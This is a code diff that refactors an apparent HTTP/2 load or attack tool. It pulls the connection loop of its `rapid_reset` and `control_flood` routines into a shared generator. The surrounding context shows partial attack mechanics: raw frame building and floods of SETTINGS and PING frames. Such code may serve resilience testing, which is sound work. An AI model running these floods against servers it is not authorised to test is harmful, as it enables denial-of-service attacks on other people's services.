@@ -19,7 +19,7 @@ import struct
 import sys
 import threading
 import time
-from collections.abc import Callable
+from collections.abc import Callable, Iterator
 from typing import Any
 
 import h2.config
@@ -90,6 +90,18 @@ def h2_socket(target: Target, deadline: float) -> ssl.SSLSocket | None:
         sock.close()
         if time.monotonic() >= deadline:
             return None
+
+
+def h2_connections(target: Target, deadline: float, tally: Tally) -> Iterator[ssl.SSLSocket]:
+    """New h2 connections, one after another until `deadline`, each counted; none (and
+    `h2` False in the tally) where the server offers no h2."""
+    while time.monotonic() < deadline:
+        sock = h2_socket(target, deadline)
+        if sock is None:
+            tally.counts["h2"] = False
+            return
+        tally.add("connections", 1)
+        yield sock
 
 
 def frame(kind: int, flags: int, stream_id: int, payload: bytes = b"") -> bytes:
@@ -249,12 +261,7 @@ def rapid_reset(target: Target, seconds: float, connections: int = 4) -> dict[st
     block = filter_block(len(FILTER_BODY))
 
     def one() -> None:
-        while time.monotonic() < deadline:
-            sock = h2_socket(target, deadline)
-            if sock is None:
-                tally.counts["h2"] = False
-                return
-            tally.add("connections", 1)
+        for sock in h2_connections(target, deadline, tally):
             sock.sendall(PREFACE + frame(0x4, 0, 0))
             stream = 1
             sent = 0
@@ -344,12 +351,7 @@ def control_flood(target: Target, seconds: float, connections: int = 2) -> dict[
     batch = (frame(0x4, 0, 0) + frame(0x6, 0, 0, b"pingping")) * 500
 
     def one() -> None:
-        while time.monotonic() < deadline:
-            sock = h2_socket(target, deadline)
-            if sock is None:
-                tally.counts["h2"] = False
-                return
-            tally.add("connections", 1)
+        for sock in h2_connections(target, deadline, tally):
             sock.settimeout(1.0)
             try:
                 sock.sendall(PREFACE)
